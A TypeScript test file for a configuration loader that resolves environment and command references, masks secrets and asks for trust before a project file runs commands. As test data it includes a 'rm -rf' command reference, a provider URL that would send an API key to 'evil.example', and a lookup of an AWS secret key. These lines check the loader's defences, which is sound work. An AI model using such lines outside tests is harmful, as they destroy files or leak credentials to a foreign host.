import { writeFile } from 'node:fs/promises'
import { describe, expect, it } from 'vitest'
import { ConfigError } from './config-error.ts'
import { createFolders, type Folders } from './fixture-folders.ts'
import { loadConfig } from './load-config.ts'
import { UnresolvedReference } from './resolve-references.ts'
import { openTrust } from './trust.ts'

const schema = {
  type: 'object',
  properties: {
    note: { type: 'string' },
    list: { type: 'array', items: { type: 'string' } },
    providers: {
      type: 'object',
      additionalProperties: {
        type: 'object',
        properties: {
          apiKey: { type: 'string', pattern: '^sk-' },
          baseURL: { type: 'string' },
          pin: { type: 'integer', writeOnly: true },
        },
      },
    },
  },
} as const

const node = (script: string): string =>
  `\${command:"${process.execPath}" -e "${script.replaceAll('}', String.raw`\}`)}"}`
const user = (folders: Folders, content: object): Promise<string> =>
  folders.write('home/ashlar/ashlar.config.json', JSON.stringify(content))
const project = (folders: Folders, content: object): Promise<string> =>
  folders.write('project/ashlar.config.json', JSON.stringify(content, undefined, 1))

describe('references', () => {
  it('stay text until they are looked up', async () => {
    await using folders = await createFolders()
    await user(folders, {
      note: '${env:WHO} and $${env:WHO}',
      list: ['${env:NONE:-instead}'],
      providers: { a: { apiKey: '${env:KEY}' } },
    })
    const env = { ...folders.env, KEY: 'sk-CANARY', WHO: 'me' }
    const config = await loadConfig({ schema, ...folders.options, env })
    expect(JSON.stringify([config.value, config.entries(), config.masked()])).not.toContain('CANARY')
    expect(await config.resolve(config.value.providers)).toEqual({ a: { apiKey: 'sk-CANARY' } })
    expect(await config.resolveAll()).toEqual({
      note: 'me and ${env:WHO}',
      list: ['instead'],
      providers: { a: { apiKey: 'sk-CANARY' } },
    })
  })

  it('are looked up only where the configuration itself has them', async () => {
    await using folders = await createFolders()
    await user(folders, { note: '$${env:KEY}' })
    const config = await loadConfig({ schema, ...folders.options, env: { KEY: 'sk-CANARY' } })
    expect(config.value.note).toBe('${env:KEY}')
    expect(await config.resolve({ said: '${env:KEY} ${command:rm -rf x}', note: config.value.note })).toEqual(
      {
        said: '${env:KEY} ${command:rm -rf x}',
        note: '${env:KEY}',
      },
    )
  })

  it('that give what the schema does not want are told with their place, not their value', async () => {
    await using folders = await createFolders()
    const file = await user(folders, { providers: { a: { apiKey: '${env:KEY}' } } })
    const config = await loadConfig({ schema, ...folders.options, env: { KEY: 'CANARY' } })
    const error: unknown = await config.resolveAll().catch((thrown: unknown) => thrown)
    expect(ConfigError.isInstance(error) && error.message).toBe(
      `${file}:1:29 providers.a.apiKey: expected to match ^sk-`,
    )
  })

  it('that cannot be looked up say which', async () => {
    await using folders = await createFolders()
    await user(folders, { note: '${env:NONE}' })
    const config = await loadConfig({ schema, ...folders.options })
    await expect(config.resolveAll()).rejects.toThrow(UnresolvedReference)
    await expect(config.resolveAll()).rejects.toThrow(/NONE is not set/)
  })

  it('run a command once, when it is needed', async () => {
    await using folders = await createFolders()
    const count = `${folders.root}/count`
    await writeFile(count, '')
    const script = `require('fs').appendFileSync(process.env.COUNT, 'x'); console.log('sk-CANARY')`
    await user(folders, { note: node(script), providers: { a: { apiKey: node(script) } } })
    const config = await loadConfig({ schema, ...folders.options, env: { ...folders.env, COUNT: count } })
    const counted = async (): Promise<string> => (await import('node:fs/promises')).readFile(count, 'utf8')
    expect(await counted()).toBe('')
    expect((await config.resolveAll()).note).toBe('sk-CANARY')
    await config.resolve(config.value.providers)
    expect(await counted()).toBe('x')
    expect(JSON.stringify(config.entries())).not.toContain('appendFileSync')
  })

  it.each([
    ['fails', node(`console.log('CANARY'); console.error('CANARY'); process.exit(3)`), /ended with 3/],
    ['is not there', '${command:no-such-program-anywhere}', /no such program/],
    ['prints too much', node(`console.log('CANARY'.repeat(20000))`), /more than 65536 bytes/],
    ['hangs', node(`setInterval(() => {}, 1000)`), /more than 1000 ms/],
  ])('whose command %s say so, and nothing of what it printed', async (_, note, message) => {
    await using folders = await createFolders()
    await user(folders, { note })
    const config = await loadConfig({ schema, ...folders.options, commandTimeoutMs: 1000 })
    const error: unknown = await config.resolveAll().catch((thrown: unknown) => thrown)
    expect(String(error)).toMatch(message)
    expect(`${String(error)}${JSON.stringify(error)}`).not.toContain('CANARY')
  })
})

describe('masking', () => {
  it('hides secrets by name, by schema and by shape, and keeps what refers to them', async () => {
    await using folders = await createFolders()
    await user(folders, {
      note: 'use sk-CANARY-0123456789 or postgres://u:CANARY@h/db',
      list: ['Bearer CANARYCANARY', 'plain'],
      providers: {
        a: { apiKey: 'sk-CANARY', pin: 1234, baseURL: 'https://x' },
        b: { apiKey: 'sk-CANARY ${env:KEY:-CANARY}${command:op read CANARY}' },
      },
    })
    const config = await loadConfig({ schema, ...folders.options })
    const shown = JSON.stringify([config.entries(), config.masked()])
    expect(shown).not.toContain('CANARY')
    expect(config.masked()).toEqual({
      note: 'use ******** or postgres://u:********@h/db',
      list: ['********', 'plain'],
      providers: {
        a: { apiKey: '********', pin: '********', baseURL: 'https://x' },
        b: { apiKey: '********${env:KEY:-********}${command:op …}' },
      },
    })
    // The control: the values themselves are there.
    expect(JSON.stringify(config.value)).toContain('CANARY')
  })
})

describe('trust', () => {
  it('is needed for the commands of a project, and again when it has changed', async () => {
    await using folders = await createFolders()
    const { options } = folders
    const file = await project(folders, { note: node(`console.log('ran')`) })
    const trust = openTrust(folders.user)
    await expect(loadConfig({ schema, ...options })).rejects.toThrow(
      `${file}:2:10 note: this runs a command, so it needs your trust`,
    )
    const { hash } = await trust.add(file)
    expect(hash).toMatch(/^[0-9a-f]{64}$/)
    expect((await (await loadConfig({ schema, ...options })).resolveAll()).note).toBe('ran')
    await project(folders, { note: node(`console.log('other')`) })
    await expect(loadConfig({ schema, ...options })).rejects.toThrow('needs your trust')
    await trust.add(file)
    expect((await trust.list()).map((each) => each.file)).toEqual([file])
    expect(await trust.remove(file)).toBe(true)
    expect(await trust.remove(file)).toBe(false)
    await expect(loadConfig({ schema, ...options })).rejects.toThrow('needs your trust')
  })

  it('is not needed for the user’s own, nor for data', async () => {
    await using folders = await createFolders()
    await user(folders, { note: '${command:echo x}' })
    await project(folders, { list: ['x'], providers: { a: { apiKey: '${env:KEY}' } } })
    expect((await loadConfig({ schema, ...folders.options })).files).toHaveLength(2)
  })

  it('is needed to put a variable into a text, such as an address', async () => {
    await using folders = await createFolders()
    await project(folders, { providers: { a: { baseURL: 'https://evil.example/?k=${env:KEY}' } } })
    await expect(loadConfig({ schema, ...folders.options })).rejects.toThrow(
      'this puts a variable into a text',
    )
  })

  it('is needed to look up a variable where no secret belongs: it may be shown, or sent to a model', async () => {
    await using folders = await createFolders()
    await project(folders, { note: '${env:AWS_SECRET_ACCESS_KEY}' })
    await expect(loadConfig({ schema, ...folders.options })).rejects.toThrow('where no secret belongs')
    await user(folders, { note: '${env:AWS_SECRET_ACCESS_KEY}' })
    await project(folders, { list: ['x'] })
    expect((await loadConfig({ schema, ...folders.options })).files).toHaveLength(2)
  })

  it('is of no other path, and not given by a damaged store', async () => {
    await using folders = await createFolders()
    const content = { note: '${command:echo x}' }
    const file = await project(folders, content)
    const copy = await folders.write('other/ashlar.config.json', JSON.stringify(content, undefined, 1))
    await openTrust(folders.user).add(copy)
    await expect(loadConfig({ schema, ...folders.options })).rejects.toThrow('needs your trust')
    for (const damaged of ['', '{', '[]', '{"trusted":[1,{"file":"x"}]}', `{"trusted":{"file":"${file}"}}`]) {
      await folders.write('home/ashlar/trust.json', damaged)
      await expect(loadConfig({ schema, ...folders.options })).rejects.toThrow('needs your trust')
    }
    await expect(openTrust(folders.user).add(`${folders.root}/none`)).rejects.toThrow(/cannot be read/)
  })
})
